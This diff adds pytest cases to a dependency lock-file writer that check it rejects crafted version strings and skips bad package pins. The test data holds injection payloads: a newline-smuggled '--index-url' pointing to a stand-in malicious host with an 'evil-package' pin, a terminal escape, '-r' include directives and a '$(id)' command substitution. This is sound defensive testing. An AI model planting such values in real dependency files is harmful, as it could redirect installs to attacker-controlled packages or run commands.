@@ -64,6 +64,46 @@ def test_without_torch_or_packages_there_is_nothing_to_write() -> None:
         lock.text(without, "pip")
 
 
+INJECTED = "\n--index-url https://evil.example/simple\nevil-package==1.0\x1b[2J\n#"
+
+
+@pytest.mark.parametrize("tool", ["pip", "uv", "conda"])
+@pytest.mark.parametrize(
+    ("torch", "cuda", "python"),
+    [
+        (f"2.9.1+cpu{INJECTED}", "12.8", "3.12.3"),
+        ("2.9.1", f"12.8{INJECTED}", "3.12.3"),
+        ("2.9.1", "12.8", f"3{INJECTED}.12"),
+        ("2.9.1\n", "12.8", "3.12.3"),
+        ("2.9.1", "12.8", "3.12\n.1"),
+    ],
+)
+def test_no_line_of_a_foreign_report_gets_into_the_file(
+    torch: str, cuda: str, python: str, tool: lock.Tool
+) -> None:
+    odd = _environment(distributions=DISTRIBUTIONS, conda_packages=["pytorch 2.5.1 py3.12"])
+    odd = odd.with_section(TorchBuild(installed=True, version=torch, cuda=cuda))
+    odd = odd.with_section(Interpreter(version=python))
+    with pytest.raises(BaselineError, match="not those of a release") as refused:
+        lock.text(odd, tool)
+    assert str(refused.value).isprintable()
+
+
+def test_a_package_whose_pin_is_none_is_left_out() -> None:
+    odd = [
+        Distribution(project=project, version=version)
+        for project, version in (
+            ("a", "+1"),
+            ("b", "1\n-r x"),
+            ("c\n-r", "1"),
+            ("-r", "x"),
+            ("d", "1.0-2"),
+        )
+    ]
+    text = lock.text(_environment(distributions=odd), "pip")
+    assert [line for line in text.splitlines() if line[0] != "#"] == ["d==1.0-2"]
+
+
 @pytest.mark.parametrize(
     "text", ["", "torch==2.9.1\n", "# gpucheck-lock/1 torch=$(id) python=3.12"]
 )
